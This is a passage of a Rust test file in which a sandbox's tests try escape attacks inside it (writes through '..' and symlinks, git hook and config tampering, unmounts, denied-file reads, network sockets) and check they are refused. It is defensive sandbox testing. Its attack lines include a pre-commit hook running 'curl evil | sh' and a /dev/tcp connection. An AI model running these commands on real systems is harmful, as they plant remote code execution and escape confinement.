@@ -1,0 +1,1779 @@
+//! Escape attempts against a real sandbox: every test starts `cordon-runner`
+//! under a confining policy through the client library, runs one attack as a
+//! command inside it (small `sh` scripts, or `python3` for what a shell
+//! cannot do: sockets, ptrace through ctypes, ioctls, raw system calls), and
+//! checks both sides: the command was refused (its exit status and output
+//! show the error), and — looking from the test process, outside the
+//! sandbox — nothing changed.
+//!
+//! A few positive controls show that what must work still works (writing the
+//! workspace and the temp dir, reading the system, the network when it is
+//! on), so that a refusal above is the sandbox's doing and not a broken
+//! setup.
+//!
+//! Every test is bounded: the whole test by [`bounded`], each command by a
+//! timeout that kills its tree. A test that needs a kernel feature this
+//! machine lacks says so on stderr (`SKIPPED …`) and returns. An attack that
+//! succeeds is a hole in the sandbox: its test stays as it is, marked
+//! `#[ignore = "HOLE: …"]` with what was observed, until the sandbox closes
+//! it.
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::{ErrorKind, Read};
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command as StdCommand, Stdio};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::time::Duration;
+
+use common::*;
+use cordon::{Command, Event, LaunchOptions, Limits, Output, Policy, PolicyBuilder, Preset, Sandbox, Size};
+use cordon_ipc::{LayerState, TOKEN_ENV};
+use nix::sys::signal::{Signal, kill};
+use nix::unistd::Pid;
+
+/// Every command is killed, with its whole tree, after this long.
+const COMMAND_TIMEOUT: Duration = Duration::from_secs(20);
+
+/// How refusals read, in `sh` messages and in Python's `OSError`s (which
+/// carry the same `strerror` text).
+const EPERM: &str = "Operation not permitted";
+const EACCES: &str = "Permission denied";
+const EROFS: &str = "Read-only file system";
+const EXDEV: &str = "Invalid cross-device link";
+const EBUSY: &str = "Device or resource busy";
+const ECONNREFUSED: &str = "Connection refused";
+
+/// What an attack script prints when the attack worked.
+const ESCAPED: &str = "ESCAPED";
+
+/// A Python prelude for raw libc calls: `check(rc)` turns a failed call
+/// into the `OSError` Python would raise itself.
+const LIBC: &str = "
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+def check(rc):
+    if rc == -1:
+        e = ctypes.get_errno()
+        raise OSError(e, os.strerror(e))
+    return rc
+";
+
+// ---------------------------------------------------------------------------
+// Fixtures and helpers
+// ---------------------------------------------------------------------------
+
+/// A scratch tree: `workspace/` (the commands' working directory, writable
+/// under workspace-write), `tmp/` (their `TMPDIR`, writable too), and
+/// `outside/` (neither), which holds `keep.txt`.
+struct Dirs {
+    _root: tempfile::TempDir,
+    base: PathBuf,
+    workspace: PathBuf,
+    tmp: PathBuf,
+    outside: PathBuf,
+}
+
+impl Dirs {
+    fn new() -> Dirs {
+        let root = tempfile::tempdir().unwrap();
+        let base = root.path().canonicalize().unwrap();
+        let [workspace, tmp, outside] = ["workspace", "tmp", "outside"].map(|name| base.join(name));
+        for dir in [&workspace, &tmp, &outside] {
+            fs::create_dir(dir).unwrap();
+        }
+        fs::write(outside.join("keep.txt"), "original\n").unwrap();
+        fs::set_permissions(outside.join("keep.txt"), fs::Permissions::from_mode(0o644)).unwrap();
+        Dirs { _root: root, base, workspace, tmp, outside }
+    }
+
+    /// workspace-write around the workspace and the temp dir.
+    fn workspace_write(&self) -> PolicyBuilder {
+        PolicyBuilder::new(Preset::WorkspaceWrite).cwd(&self.workspace).temp_dir(&self.tmp)
+    }
+
+    fn policy(&self) -> Policy {
+        self.workspace_write().build().unwrap()
+    }
+
+    /// `program` in the workspace, with `$WS`, `$OUT` and `$TMPDIR` set and
+    /// the command timeout.
+    fn command(&self, program: &str) -> Command {
+        Command::new(program)
+            .cwd(&self.workspace)
+            .env("WS", path_str(&self.workspace))
+            .env("OUT", path_str(&self.outside))
+            .env("TMPDIR", path_str(&self.tmp))
+            .timeout(COMMAND_TIMEOUT)
+    }
+
+    fn sh(&self, script: &str) -> Command {
+        self.command("sh").arg("-c").arg(script)
+    }
+
+    /// `python3 -c` with `code` (indentation as written in Rust removed).
+    fn python(&self, code: &str) -> Command {
+        self.command("python3").arg("-c").arg(dedent(code))
+    }
+
+    /// Python with the [`LIBC`] prelude.
+    fn python_libc(&self, code: &str) -> Command {
+        self.command("python3").arg("-c").arg(format!("{}\n{}", dedent(LIBC), dedent(code)))
+    }
+}
+
+fn path_str(path: &Path) -> &str {
+    path.to_str().expect("test paths are UTF-8")
+}
+
+/// Removes the indentation common to every non-blank line.
+fn dedent(code: &str) -> String {
+    let indent = code
+        .lines()
+        .filter(|line| !line.trim().is_empty())
+        .map(|line| line.len() - line.trim_start().len())
+        .min()
+        .unwrap_or(0);
+    code.lines().map(|line| line.get(indent..).unwrap_or("").trim_end()).collect::<Vec<_>>().join("\n")
+}
+
+/// Launches a runner under `policy`. Returns `None`, after saying why on
+/// stderr, when this machine cannot put the whole sandbox in force (no
+/// Landlock, no seccomp, a layer reported partial or unavailable); a launch
+/// that fails on a machine that has everything is a test failure.
+async fn confined(test: &str, policy: Policy) -> Option<Sandbox> {
+    match Sandbox::launch(LaunchOptions::new(policy).runner(RUNNER)).await {
+        Ok(sandbox) => {
+            let gaps: Vec<String> = sandbox
+                .info()
+                .sandbox
+                .layers
+                .iter()
+                .filter(|layer| !matches!(layer.state, LayerState::Active | LayerState::NotRequested))
+                .map(|layer| format!("{} {:?}: {}", layer.name, layer.state, layer.detail))
+                .collect();
+            if gaps.is_empty() {
+                return Some(sandbox);
+            }
+            eprintln!("SKIPPED {test}: this machine cannot enforce the whole sandbox: {gaps:#?}");
+            None
+        }
+        Err(err) => {
+            let missing: Vec<String> = cordon_sandbox::probe()
+                .into_iter()
+                .filter(|probe| ["landlock", "seccomp"].contains(&probe.name.as_str()) && !probe.available)
+                .map(|probe| format!("{}: {}", probe.name, probe.detail))
+                .collect();
+            if missing.is_empty() {
+                panic!(
+                    "{test}: the sandbox did not launch although this machine has Landlock and seccomp: {err}"
+                );
+            }
+            eprintln!("SKIPPED {test}: the sandbox cannot launch here ({err}); missing: {missing:?}");
+            None
+        }
+    }
+}
+
+/// The layer named `name`'s detail, if it is in force.
+fn layer_detail<'a>(sandbox: &'a Sandbox, name: &str) -> Option<&'a str> {
+    sandbox
+        .info()
+        .sandbox
+        .layers
+        .iter()
+        .find(|layer| layer.name == name && layer.state == LayerState::Active)
+        .map(|layer| layer.detail.as_str())
+}
+
+/// stdout then stderr, as text.
+fn text(out: &Output) -> String {
+    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
+}
+
+/// The command ran to its end (no timeout), failed, printed one of
+/// `errors` (compared case-insensitively: util-linux writes "permission
+/// denied"), and never printed [`ESCAPED`]. Returns its output.
+#[track_caller]
+fn assert_refused(out: &Output, errors: &[&str]) -> String {
+    let text = text(out);
+    assert!(!out.status.timed_out, "the command timed out instead of being refused:\n{text}");
+    assert!(!text.contains(ESCAPED), "the attack succeeded:\n{text}");
+    assert!(!out.status.success(), "the attack succeeded (exit status 0):\n{text}");
+    let lower = text.to_lowercase();
+    assert!(
+        errors.iter().any(|error| lower.contains(&error.to_lowercase())),
+        "refused, but without any of {errors:?} ({:?}):\n{text}",
+        out.status
+    );
+    text
+}
+
+/// The command succeeded; returns its output.
+#[track_caller]
+fn assert_ok(out: &Output) -> String {
+    let text = text(out);
+    assert!(out.status.success(), "expected success, got {:?}:\n{text}", out.status);
+    text
+}
+
+/// A tree as seen without following links: for each entry, its type,
+/// content (files) or target (links), mode, owner, link count, and times of
+/// change. Any write, create, delete, rename, link, chmod, chown, utime or
+/// xattr change beneath `dir` changes it.
+fn snapshot(dir: &Path) -> BTreeMap<PathBuf, String> {
+    fn walk(root: &Path, dir: &Path, into: &mut BTreeMap<PathBuf, String>) {
+        let mut entries: Vec<PathBuf> = fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
+        entries.sort();
+        for path in entries {
+            let meta = fs::symlink_metadata(&path).unwrap();
+            let kind = meta.file_type();
+            let what = if kind.is_symlink() {
+                format!("link -> {}", fs::read_link(&path).unwrap().display())
+            } else if kind.is_file() {
+                format!("file {:?}", String::from_utf8_lossy(&fs::read(&path).unwrap()))
+            } else if kind.is_dir() {
+                "dir".to_string()
+            } else {
+                "other".to_string()
+            };
+            let stamp = format!(
+                "{what} mode {:o} owner {}:{} links {} mtime {}.{} ctime {}.{}",
+                meta.mode(),
+                meta.uid(),
+                meta.gid(),
+                meta.nlink(),
+                meta.mtime(),
+                meta.mtime_nsec(),
+                meta.ctime(),
+                meta.ctime_nsec()
+            );
+            into.insert(path.strip_prefix(root).unwrap().to_path_buf(), stamp);
+            if kind.is_dir() {
+                walk(root, &path, into);
+            }
+        }
+    }
+    let mut tree = BTreeMap::new();
+    walk(dir, dir, &mut tree);
+    tree
+}
+
+#[track_caller]
+fn assert_unchanged(dir: &Path, before: &BTreeMap<PathBuf, String>) {
+    let after = snapshot(dir);
+    if &after != before {
+        let changed: Vec<String> = before
+            .keys()
+            .chain(after.keys())
+            .collect::<std::collections::BTreeSet<_>>()
+            .into_iter()
+            .filter(|path| before.get(*path) != after.get(*path))
+            .map(|path| format!("{}: {:?} -> {:?}", path.display(), before.get(path), after.get(path)))
+            .collect();
+        panic!("{} changed from inside the sandbox:\n{}", dir.display(), changed.join("\n"));
+    }
+}
+
+/// A process the test started outside the sandbox, killed and reaped
+/// whatever happens to the test.
+struct Victim(Child);
+
+impl Victim {
+    fn sleep() -> Victim {
+        Victim(StdCommand::new("sleep").arg("60").stdin(Stdio::null()).spawn().unwrap())
+    }
+
+    fn pid(&self) -> u32 {
+        self.0.id()
+    }
+
+    /// Running, and not stopped.
+    fn is_running(&mut self) -> bool {
+        if self.0.try_wait().unwrap().is_some() {
+            return false;
+        }
+        let stat = fs::read_to_string(format!("/proc/{}/stat", self.pid())).unwrap();
+        let state = stat[stat.rfind(')').unwrap() + 1..].split_whitespace().next().unwrap().to_string();
+        state == "S" || state == "R"
+    }
+}
+
+impl Drop for Victim {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A process found inside the sandbox that the test must not leave behind:
+/// killed on drop if it still runs. It is known by its pid and start time,
+/// so a recycled pid is never killed.
+struct Reap {
+    pid: u32,
+    started: Option<u64>,
+}
+
+impl Reap {
+    fn new(pid: u32) -> Reap {
+        Reap { pid, started: start_time(pid) }
+    }
+}
+
+impl Drop for Reap {
+    fn drop(&mut self) {
+        if self.started.is_some() && start_time(self.pid) == self.started && !is_gone(self.pid) {
+            let _ = kill(Pid::from_raw(self.pid as i32), Signal::SIGKILL);
+        }
+    }
+}
+
+/// A process's start time (field 22 of `/proc/PID/stat`), in clock ticks.
+fn start_time(pid: u32) -> Option<u64> {
+    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+    stat[stat.rfind(')')? + 1..].split_whitespace().nth(19)?.parse().ok()
+}
+
+/// Reads events until `needle` shows up in the output.
+async fn read_until(process: &mut cordon::Process, needle: &str) -> String {
+    let mut seen = String::new();
+    loop {
+        match process.next_event().await.expect("event") {
+            Some(Event::Output { data, .. }) => {
+                seen.push_str(&String::from_utf8_lossy(&data));
+                if seen.contains(needle) {
+                    return seen;
+                }
+            }
+            Some(Event::Error { message, .. }) => panic!("runner error: {message}"),
+            Some(Event::Exited(status)) => panic!("exited ({status:?}) before {needle:?}; output: {seen:?}"),
+            None => panic!("no more events before {needle:?}"),
+        }
+    }
+}
+
+/// Whether a non-blocking listener has a connection waiting.
+fn tcp_accepts(listener: &TcpListener) -> Option<std::net::SocketAddr> {
+    listener.set_nonblocking(true).unwrap();
+    match listener.accept() {
+        Ok((_, peer)) => Some(peer),
+        Err(err) if err.kind() == ErrorKind::WouldBlock => None,
+        Err(err) => panic!("accept: {err}"),
+    }
+}
+
+fn unix_accepts(listener: &UnixListener) -> bool {
+    listener.set_nonblocking(true).unwrap();
+    match listener.accept() {
+        Ok(_) => true,
+        Err(err) if err.kind() == ErrorKind::WouldBlock => false,
+        Err(err) => panic!("accept: {err}"),
+    }
+}
+
+fn mountinfo(pid: u32) -> String {
+    fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap()
+}
+
+/// Whether `path` is a mount point in `mountinfo` (field 5).
+fn is_mount_point(mountinfo: &str, path: &Path) -> bool {
+    mountinfo.lines().any(|line| line.split(' ').nth(4) == Some(path_str(path)))
+}
+
+// ---------------------------------------------------------------------------
+// Writing outside the writable roots
+// ---------------------------------------------------------------------------
+
+#[tokio::test]
+async fn write_outside_the_workspace_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) = confined("write_outside_the_workspace_is_refused", dirs.policy()).await else {
+            return;
+        };
+        for script in [
+            "echo pwned > \"$OUT/absolute.txt\"",
+            "echo pwned >> \"$OUT/keep.txt\"",
+            "mkdir \"$OUT/newdir\"",
+            "rm \"$OUT/keep.txt\"",
+            "truncate -s 0 \"$OUT/keep.txt\"",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EACCES]);
+        }
+        assert_unchanged(&dirs.outside, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn write_through_dot_dot_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) = confined("write_through_dot_dot_is_refused", dirs.policy()).await else { return };
+        for script in [
+            "echo pwned > ../outside/dotdot.txt",
+            "echo pwned > ../dotdot.txt",
+            "cd .. && echo pwned > dotdot.txt",
+            "mkdir -p sub && echo pwned > ./sub/../../outside/dotdot.txt",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EACCES]);
+        }
+        assert_unchanged(&dirs.outside, &before);
+        assert!(!dirs.base.join("dotdot.txt").exists(), "written beside the workspace");
+    })
+    .await
+}
+
+#[tokio::test]
+async fn write_through_a_symlink_made_inside_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) = confined("write_through_a_symlink_made_inside_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        // Making the links is allowed (they live in the workspace); writing
+        // through them is not.
+        let out = sandbox
+            .run(dirs.sh("ln -s \"$OUT\" dir-link && ln -s \"$OUT/keep.txt\" file-link"))
+            .await
+            .unwrap();
+        assert_ok(&out);
+        assert_eq!(fs::read_link(dirs.workspace.join("dir-link")).unwrap(), dirs.outside);
+        for script in
+            ["echo pwned > dir-link/via-link.txt", "echo pwned >> file-link", "mkdir dir-link/newdir"]
+        {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EACCES]);
+        }
+        assert_unchanged(&dirs.outside, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn write_through_a_planted_symlink_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        symlink(&dirs.outside, dirs.workspace.join("planted-dir")).unwrap();
+        symlink(dirs.outside.join("keep.txt"), dirs.workspace.join("planted-file")).unwrap();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) = confined("write_through_a_planted_symlink_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        for script in [
+            "echo pwned > planted-dir/via-planted.txt",
+            "echo pwned >> planted-file",
+            "cp /etc/hostname planted-dir/",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EACCES]);
+        }
+        // Reading through them is fine: everything is readable.
+        let out = sandbox.run(dirs.sh("cat planted-file")).await.unwrap();
+        assert_eq!(assert_ok(&out), "original\n");
+        assert_unchanged(&dirs.outside, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn write_through_a_symlink_swapped_after_launch_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        fs::create_dir(dirs.workspace.join("ok")).unwrap();
+        let link = dirs.workspace.join("link");
+        symlink(dirs.workspace.join("ok"), &link).unwrap();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) =
+            confined("write_through_a_symlink_swapped_after_launch_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        // While it points into the workspace, writing through it works.
+        let out = sandbox.run(dirs.sh("echo fine > link/first.txt")).await.unwrap();
+        assert_ok(&out);
+        assert_eq!(fs::read_to_string(dirs.workspace.join("ok/first.txt")).unwrap(), "fine\n");
+        // Swapped, from outside, for one that points out.
+        fs::remove_file(&link).unwrap();
+        symlink(&dirs.outside, &link).unwrap();
+        let out = sandbox.run(dirs.sh("echo pwned > link/swapped.txt")).await.unwrap();
+        assert_refused(&out, &[EACCES]);
+        let out = sandbox.run(dirs.sh("echo pwned >> link/keep.txt")).await.unwrap();
+        assert_refused(&out, &[EACCES]);
+        assert_unchanged(&dirs.outside, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn hard_link_to_an_outside_file_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) = confined("hard_link_to_an_outside_file_is_refused", dirs.policy()).await else {
+            return;
+        };
+        // A link in the workspace would make the outside file writable
+        // under a workspace name. Whether the link itself is refused or only
+        // writing through it, the outside file must not change.
+        let out = sandbox.run(dirs.sh("ln \"$OUT/keep.txt\" hard && echo pwned >> hard")).await.unwrap();
+        assert_refused(&out, &[EXDEV, EACCES, EPERM]);
+        let link = "import os; os.link(os.environ['OUT'] + '/keep.txt', 'hard2')";
+        let out = sandbox.run(dirs.python(link)).await.unwrap();
+        assert_refused(&out, &[EXDEV, EACCES, EPERM]);
+        assert!(!dirs.workspace.join("hard2").exists());
+        assert_unchanged(&dirs.outside, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn rename_of_a_workspace_file_to_outside_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        fs::write(dirs.workspace.join("moveme.txt"), "mine\n").unwrap();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) = confined("rename_of_a_workspace_file_to_outside_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        // mv falls back to copy and delete when rename(2) is refused; both
+        // ways must fail.
+        let out = sandbox.run(dirs.sh("mv moveme.txt \"$OUT/moved.txt\"")).await.unwrap();
+        assert_refused(&out, &[EACCES, EXDEV]);
+        let out = sandbox
+            .run(dirs.python("import os; os.rename('moveme.txt', os.environ['OUT'] + '/moved.txt')"))
+            .await
+            .unwrap();
+        assert_refused(&out, &[EXDEV, EACCES]);
+        assert_eq!(fs::read_to_string(dirs.workspace.join("moveme.txt")).unwrap(), "mine\n");
+        assert_unchanged(&dirs.outside, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn rename_of_an_outside_file_into_the_workspace_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) =
+            confined("rename_of_an_outside_file_into_the_workspace_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        let out = sandbox
+            .run(dirs.python("import os; os.rename(os.environ['OUT'] + '/keep.txt', 'stolen.txt')"))
+            .await
+            .unwrap();
+        assert_refused(&out, &[EXDEV, EACCES]);
+        // mv copies (reading is allowed) but cannot remove the original.
+        let out = sandbox.run(dirs.sh("mv \"$OUT/keep.txt\" stolen.txt")).await.unwrap();
+        assert_refused(&out, &[EACCES]);
+        assert_unchanged(&dirs.outside, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+#[ignore = "HOLE: metadata outside the writable roots can be changed: on outside/keep.txt (0644, owned by \
+            the test's uid, in a directory the policy does not make writable) `chmod 777` exits 0 and the \
+            mode becomes 0777, `touch -d 2001-01-01` exits 0 and sets the mtime, `chown $(id -u):$(id -g)` \
+            and python `os.setxattr(..., 'user.x', b'x')` exit 0 (Landlock ABI 7 has no right for \
+            chmod, chown, utimes or xattrs, and the sandbox runs as the files' owner)"]
+async fn changing_metadata_outside_the_workspace_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) =
+            confined("changing_metadata_outside_the_workspace_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        let mut escaped = Vec::new();
+        for script in [
+            "chmod 777 \"$OUT/keep.txt\"",
+            "touch -d 2001-01-01 \"$OUT/keep.txt\"",
+            "chown \"$(id -u):$(id -g)\" \"$OUT/keep.txt\"",
+            "python3 -c 'import os; os.setxattr(os.environ[\"OUT\"] + \"/keep.txt\", \"user.x\", b\"x\")'",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            if out.status.success() {
+                escaped.push(script);
+            }
+        }
+        let after = snapshot(&dirs.outside);
+        assert!(
+            escaped.is_empty() && after == before,
+            "metadata changed outside the workspace by {escaped:?}:\nbefore {before:#?}\nafter {after:#?}"
+        );
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// Protected and denied paths
+// ---------------------------------------------------------------------------
+
+/// A workspace with `.git/config` and `.git/hooks/`, made before the policy
+/// is built (only protected names that exist then are protected).
+fn git_workspace() -> (Dirs, BTreeMap<PathBuf, String>) {
+    let dirs = Dirs::new();
+    let git = dirs.workspace.join(".git");
+    fs::create_dir_all(git.join("hooks")).unwrap();
+    fs::write(git.join("config"), "[core]\n\tbare = false\n").unwrap();
+    let before = snapshot(&git);
+    (dirs, before)
+}
+
+#[tokio::test]
+async fn writing_protected_git_paths_is_refused() {
+    bounded("test", async {
+        let (dirs, before) = git_workspace();
+        let git = dirs.workspace.join(".git");
+        let Some(sandbox) = confined("writing_protected_git_paths_is_refused", dirs.policy()).await else {
+            return;
+        };
+        for script in [
+            "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config",
+            "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit",
+            "chmod 777 .git/config",
+            "rm .git/config",
+            "mkdir .git/hooks/new",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EROFS]);
+        }
+        // The rest of the workspace stays writable.
+        let out = sandbox.run(dirs.sh("echo fine > notes.txt")).await.unwrap();
+        assert_ok(&out);
+        assert_eq!(fs::read_to_string(dirs.workspace.join("notes.txt")).unwrap(), "fine\n");
+        assert!(!git.join("hooks/pre-commit").exists());
+        assert_unchanged(&git, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn protected_git_directory_cannot_be_moved_or_replaced() {
+    bounded("test", async {
+        let (dirs, before) = git_workspace();
+        let git = dirs.workspace.join(".git");
+        let Some(sandbox) =
+            confined("protected_git_directory_cannot_be_moved_or_replaced", dirs.policy()).await
+        else {
+            return;
+        };
+        for script in ["mv .git moved-git", "mkdir sub && mv .git sub/", "rm -rf .git", "rmdir .git/hooks"] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EBUSY, EROFS]);
+        }
+        assert!(!dirs.workspace.join("moved-git").exists());
+        assert_unchanged(&git, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn unmounting_a_protected_path_is_refused() {
+    bounded("test", async {
+        let (dirs, before) = git_workspace();
+        let git = dirs.workspace.join(".git");
+        let Some(sandbox) = confined("unmounting_a_protected_path_is_refused", dirs.policy()).await else {
+            return;
+        };
+        let runner = sandbox.info().pid;
+        assert!(is_mount_point(&mountinfo(runner), &git), "the sandbox protects .git with a mount");
+        let out = sandbox.run(dirs.sh("umount .git")).await.unwrap();
+        assert_refused(&out, &[EPERM, EACCES, "must be superuser"]);
+        let out = sandbox.run(dirs.python_libc("check(libc.umount2(b'.git', 2))")).await.unwrap();
+        assert_refused(&out, &[EPERM]);
+        assert!(is_mount_point(&mountinfo(runner), &git), "the protection is still mounted");
+        let out = sandbox.run(dirs.sh("echo x >> .git/config")).await.unwrap();
+        assert_refused(&out, &[EROFS]);
+        assert_unchanged(&git, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn reading_a_denied_path_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        fs::create_dir(dirs.outside.join("secret")).unwrap();
+        fs::write(dirs.outside.join("secret/key"), "top-secret\n").unwrap();
+        fs::create_dir(dirs.outside.join("public")).unwrap();
+        fs::write(dirs.outside.join("public/readme"), "public\n").unwrap();
+        fs::write(dirs.workspace.join("secret.env"), "TOKEN=ws-secret\n").unwrap();
+        // Nothing new can be made directly in a directory that holds a
+        // denied path (see the Landlock layer); its subdirectories are fine.
+        fs::create_dir(dirs.workspace.join("sub")).unwrap();
+        let policy = dirs
+            .workspace_write()
+            .deny(dirs.outside.join("secret"))
+            .deny(dirs.workspace.join("secret.env"))
+            .build();
+        let before = snapshot(&dirs.outside);
+        let Some(sandbox) = confined("reading_a_denied_path_is_refused", policy.unwrap()).await else {
+            return;
+        };
+        for script in [
+            "cat \"$OUT/secret/key\"",
+            "ls \"$OUT/secret\"",
+            "cat secret.env",
+            "echo TOKEN=replaced > secret.env",
+            // Another name for it is no way around.
+            "ln -s \"$OUT/secret/key\" sub/alias && cat sub/alias",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            let text = assert_refused(&out, &[EACCES]);
+            assert!(!text.contains("top-secret") && !text.contains("ws-secret"), "{script}: {text}");
+        }
+        // Its siblings are readable, and the workspace writable.
+        let out = sandbox.run(dirs.sh("cat \"$OUT/public/readme\"; cat \"$OUT/keep.txt\"")).await.unwrap();
+        assert_eq!(assert_ok(&out), "public\noriginal\n");
+        let out = sandbox.run(dirs.sh("rm sub/alias && echo fine > sub/notes.txt")).await.unwrap();
+        assert_ok(&out);
+        assert_eq!(fs::read_to_string(dirs.workspace.join("secret.env")).unwrap(), "TOKEN=ws-secret\n");
+        assert_unchanged(&dirs.outside, &before);
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// The network
+// ---------------------------------------------------------------------------
+
+#[tokio::test]
+async fn tcp_connect_to_a_loopback_listener_outside_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port().to_string();
+        let Some(sandbox) =
+            confined("tcp_connect_to_a_loopback_listener_outside_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        let code = "
+            import os, socket
+            s = socket.create_connection(('127.0.0.1', int(os.environ['PORT'])), timeout=5)
+            s.sendall(b'hello from the sandbox')
+            print('ESCAPED: connected')
+        ";
+        let out = sandbox.run(dirs.python(code).env("PORT", &port)).await.unwrap();
+        assert_refused(&out, &["[Errno 1]", "[Errno 13]"]);
+        // A shell's own way, where it has one.
+        let out = sandbox
+            .run(dirs.command("bash").arg("-c").arg("exec 3<>/dev/tcp/127.0.0.1/$PORT").env("PORT", &port));
+        if let Ok(out) = out.await {
+            assert_refused(&out, &[EPERM, EACCES]);
+        }
+        assert_eq!(tcp_accepts(&listener), None, "the listener outside got a connection");
+    })
+    .await
+}
+
+#[tokio::test]
+async fn udp_to_a_socket_outside_arrives_nowhere() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let receiver = UdpSocket::bind("127.0.0.1:0").unwrap();
+        let port = receiver.local_addr().unwrap().port().to_string();
+        let Some(sandbox) = confined("udp_to_a_socket_outside_arrives_nowhere", dirs.policy()).await else {
+            return;
+        };
+        let code = "
+            import os, socket
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            for _ in range(3):
+                s.sendto(b'hello from the sandbox', ('127.0.0.1', int(os.environ['PORT'])))
+            print('ESCAPED: sent')
+        ";
+        let out = sandbox.run(dirs.python(code).env("PORT", &port)).await.unwrap();
+        assert_refused(&out, &["[Errno 1]", "[Errno 13]"]);
+        receiver.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
+        let mut buf = [0u8; 64];
+        match receiver.recv_from(&mut buf) {
+            Ok((n, from)) => {
+                panic!("a datagram arrived from {from}: {:?}", String::from_utf8_lossy(&buf[..n]))
+            }
+            Err(err) => assert!(matches!(err.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut), "{err}"),
+        }
+    })
+    .await
+}
+
+#[tokio::test]
+async fn dns_lookup_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let Some(sandbox) = confined("dns_lookup_is_refused", dirs.policy()).await else { return };
+        // A name needs a resolver; the resolver needs an AF_INET socket,
+        // which cannot be made. (Names in /etc/hosts still resolve: that is
+        // a file, and reachable is what matters.)
+        let code = "
+            import socket
+            try:
+                print('RESOLVED example.com:', socket.getaddrinfo('example.com', 80))
+            except socket.gaierror as e:
+                print('lookup of example.com failed:', e)
+            for family in (socket.AF_INET, socket.AF_INET6):
+                try:
+                    socket.socket(family, socket.SOCK_DGRAM)
+                    print('ESCAPED: a socket of family', family)
+                except OSError as e:
+                    print('socket of family', int(family), 'refused:', e)
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        ";
+        let out = sandbox.run(dirs.python(code)).await.unwrap();
+        let text = assert_refused(&out, &["[Errno 1]", "[Errno 13]"]);
+        assert!(text.contains("lookup of example.com failed"), "a DNS name resolved inside:\n{text}");
+        assert_eq!(text.matches("refused: [Errno").count(), 2, "{text}");
+        let getent = sandbox.run(dirs.sh("getent hosts example.com")).await.unwrap();
+        assert!(
+            !getent.status.success(),
+            "getent resolved a name: {:?}",
+            String::from_utf8_lossy(&getent.stdout)
+        );
+    })
+    .await
+}
+
+#[tokio::test]
+async fn raw_packet_netlink_and_mptcp_sockets_are_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
